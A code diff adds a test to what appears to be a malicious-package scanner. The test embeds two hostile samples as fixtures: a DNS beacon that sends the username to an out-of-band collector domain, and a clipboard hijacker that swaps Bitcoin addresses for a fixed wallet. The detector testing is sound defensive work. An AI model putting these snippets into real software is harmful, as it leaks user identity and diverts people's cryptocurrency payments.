@@ -310,3 +310,30 @@ def test_a_custody_secret_sent_to_a_fixed_host_is_flagged_whatever_the_score(
     assert main(["scan", "--format", "json", str(path)]) == 1
     [reported] = json.loads(capsys.readouterr().out)["results"]
     assert reported["verdict"] == "malicious" and reported["reasons"][0]["feature"] == "policy.custody_exfil"
+
+
+def test_a_dns_beacon_and_a_clipper_are_flagged_whatever_the_score() -> None:
+    beacon = (
+        b"import socket, getpass\n\n\ndef ping():\n"
+        b"    socket.gethostbyname(f'{getpass.getuser()}.abc123.oast.fun')\n"
+    )
+    clipper = (
+        b"import pyperclip\n\n\ndef swap():\n    if pyperclip.paste().startswith('bc1'):\n"
+        b"        pyperclip.copy('bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kvfnk9s')\n"
+    )
+    scanner = Scanner(scorer=FixedScorer(0.01))
+    result = scanner.scan_archive(_archive({"demo/a.py": beacon, "demo/b.py": clipper}))
+    assert result.verdict is Verdict.MALICIOUS
+    first, second = result.reasons[:2]
+    assert (first.feature, first.file, first.line) == ("policy.dns_beacon", "p-1.0/demo/a.py", 5)
+    assert (second.feature, second.file, second.line) == ("policy.clipboard_hijack", "p-1.0/demo/b.py", 6)
+    # neither without its receiver domain or its wallet address
+    honest = scanner.scan_archive(
+        _archive(
+            {
+                "demo/a.py": beacon.replace(b".abc123.oast.fun", b".corp.example.net"),
+                "demo/b.py": clipper.replace(b"'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kvfnk9s'", b"'none'"),
+            }
+        )
+    )
+    assert honest.verdict is Verdict.BENIGN
